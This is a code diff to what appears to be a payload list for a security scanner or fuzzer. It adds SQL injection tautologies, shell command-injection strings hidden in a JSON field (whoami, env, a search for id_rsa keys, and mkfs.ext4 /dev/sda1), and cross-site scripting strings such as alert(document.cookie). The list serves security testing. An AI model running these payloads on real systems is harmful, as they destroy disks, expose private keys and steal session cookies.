@@ -30,6 +30,12 @@ export const SQL: readonly PayloadFamily[] = [
     [")xor'z", ") or 'a"],
   ),
   family(
+    "condition that the query closes",
+    ["", "admin", "1"],
+    ["') or (", "')) OR (("],
+    ["'1'='1", "'a' like 'a", "1=1--"],
+  ),
+  family(
     "tautology after a quote",
     ["", "admin", "x'y"],
     ["' ", "') ", "')) ", '" '],
@@ -100,6 +106,8 @@ export const SQL: readonly PayloadFamily[] = [
 ];
 
 export const SHELL: readonly PayloadFamily[] = [
+  family("command in JSON", ['{"file": "a.txt'], ["; ", " && ", " | "], ["whoami", "env", "id"], ['"}']),
+  family("look around", ["; ", "x && "], ["find / -name id_rsa", "find ~/ -type f", "ps aux", "mkfs.ext4 /dev/sda1"]),
   family(
     "reading of files",
     ["", "report.txt", "x"],
@@ -328,6 +336,14 @@ export const TEMPLATE: readonly PayloadFamily[] = [
 ];
 
 export const SCRIPT: readonly PayloadFamily[] = [
+  family(
+    "text of a program",
+    ['"', "'"],
+    ["-", ";", ");"],
+    ["alert(1)", "alert(document.cookie)", "eval(name)"],
+    ["//", "/*"],
+  ),
+  family("sum of texts", ["x", ""], ["'-alert(1)-'", '"+prompt(1)+"', "`-confirm(1)-`"]),
   family(
     "element",
     ["", '">', "'></title>", "x"],
